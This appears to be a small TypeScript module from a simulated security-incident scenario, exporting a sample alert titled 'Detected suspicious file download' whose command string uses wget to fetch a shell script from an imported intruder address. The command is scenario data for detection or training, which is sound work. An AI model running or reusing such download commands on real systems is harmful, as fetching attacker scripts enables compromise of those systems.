import { intruder } from "../estate/intruders.ts";

/** The command that ties the incident together: the one place where the key alert names the address. */
export const downloadCommand = `wget http://${intruder}/QuZYpObins.sh -t 3 -T 5`;
export const downloadTitle = "Detected suspicious file download";
